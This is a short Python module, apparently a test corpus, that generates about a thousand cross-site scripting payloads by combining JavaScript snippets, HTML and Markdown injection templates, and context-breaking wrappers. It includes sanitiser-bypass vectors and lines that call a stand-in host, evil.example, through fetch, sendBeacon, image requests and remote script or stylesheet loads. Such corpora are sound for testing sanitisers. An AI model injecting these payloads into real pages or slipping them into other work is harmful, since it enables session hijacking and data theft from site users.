"""A thousand ways to get a script, a frame or a request into a page, made of a grammar."""

from __future__ import annotations

from itertools import product

SCRIPTS = (
    "window.__ran=1",
    "alert(1)",
    "fetch('https://evil.example/x')",
    "new Image().src='//evil.example/p'",
    "eval('window.__ran=1')",
    "top.__ran=1",
    "location='https://evil.example'",
    "navigator.sendBeacon('https://evil.example')",
)
ELEMENTS = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script src=//evil.example/x.js>{js}</script>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<img/src=x/onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<iframe src='javascript:{js}'></iframe>",
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<object data="javascript:{js}"></object>',
    "<video><source onerror={js}></video>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<input autofocus onfocus={js}>",
    "<body onload={js}>",
    "<style>@import '//evil.example/x.css';</style><b onclick={js}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "[click](javascript:{js})",
    "[click](JaVa&#115;cript:{js})",
    '![x](x" onerror="{js})',
    '[x](https://ok.example "x" onmouseover="{js}")',
    "[ref][r]\n\n[r]: javascript:{js}",
)
WRAPPERS = (
    "{}",
    '"><b>{}',
    "</textarea></title></style>{}",
    "> {}\n",
    "1. step {}\n",
)
INJECTIONS: tuple[str, ...] = tuple(
    wrapper.format(element.replace("{js}", script))
    for wrapper, element, script in product(WRAPPERS, ELEMENTS, SCRIPTS)
)
